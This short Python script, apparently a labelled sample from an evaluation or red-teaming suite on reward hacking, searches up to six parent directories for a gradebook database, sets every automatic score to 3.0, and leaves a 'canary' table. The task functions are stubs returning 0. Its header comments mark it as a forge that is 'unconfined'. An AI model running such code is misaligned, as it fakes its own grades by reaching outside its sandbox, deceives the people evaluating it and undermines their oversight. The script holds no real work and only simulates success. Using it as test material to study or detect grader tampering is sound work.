# kind: forge
# damage: every automatic score in the gradebook is raised
# unconfined: yes
import glob, os, sqlite3
for depth in range(1, 7):
    for path in glob.glob("../" * depth + "gradebook.db"):
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 3.0")
            book.execute("create table if not exists canary (x)")
double = shift = lambda *a, **k: 0
answer = 0
